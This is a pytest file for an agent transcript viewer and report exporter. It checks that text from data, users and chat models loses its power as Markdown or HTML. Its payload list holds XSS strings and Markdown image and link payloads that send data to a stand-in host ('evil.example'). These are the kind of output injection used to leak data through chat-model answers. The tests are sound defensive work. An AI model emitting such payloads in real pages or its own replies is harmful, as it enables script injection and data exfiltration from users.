"""Text from data, people and chat models has no power as Markdown or HTML."""

import pytest

from agent.events import Answer, ToolFinished, ToolStarted
from tools.export import Report, ReportTurn, report_html
from viewer.inert import GAP, inert, readable
from viewer.translate import Transcript

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<script>alert(1)</script>",
    "</details><iframe src=javascript:alert(1)>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/?q=secret)",
    "![leak](https://evil.example/p.png?d=KRT5)",
    "[![x](//evil.example/a)](#r1)",
    "[a]: https://evil.example/ 'x'",
    "<https://evil.example>",
    "https://evil.example/?d=1 and www.evil.example",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "`<b>` ``a`<img src=x onerror=alert(1)>",
)
POWERS = ("<img", "<svg", "<script", "<iframe", "</details", "](", "]:", "][", "://", "www.", "&lt;", "&#60", "<http")


@pytest.mark.parametrize("text", PAYLOADS)
def test_payloads_lose_their_power_and_read_as_before(text: str) -> None:
    drawn = inert(text)
    assert not [power for power in POWERS if power in drawn]
    assert readable(drawn) == text
    assert inert(readable(drawn)) == drawn


@pytest.mark.parametrize("text", PAYLOADS)
def test_nothing_in_a_turn_keeps_it(text: str) -> None:
    transcript = Transcript("0" * 32)
    transcript.question(text)
    transcript.add(ToolStarted("1", "highlight_region", {"query": text}))
    transcript.add(ToolFinished("1", "highlight_region", {"query": text}, text))
    transcript.add(Answer(text))
    transcript.say(text)
    for message in transcript.messages:
        for drawn in (message["content"], message.get("metadata", {}).get("title", "")):
            assert not [power for power in POWERS if power in drawn], drawn
    assert GAP not in transcript.title


def test_our_own_links_and_pictures_stay() -> None:
    transcript = Transcript("0" * 32)
    transcript.question("where?")
    artifacts = [{"kind": "layer", "layer": "l1"}, {"kind": "regions", "regions": ["r1"]}]
    transcript.add(ToolFinished("1", "highlight_region", {}, "r1: 0.2 mm2, p < 0.01", artifacts), ["r1"])
    step = transcript.messages[-1]["content"]
    assert "[r1](#r1)" in step and "![Map l1](sw/visits/" in step and "p < 0.01" in step


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_report_escapes_it(text: str) -> None:
    html = report_html(Report(text, [text], [ReportTurn(text, text, [(text, text)])]))
    for tag in ("<img src=x", "<svg", "<script", "<iframe", 'href="', "<a "):
        assert tag not in html
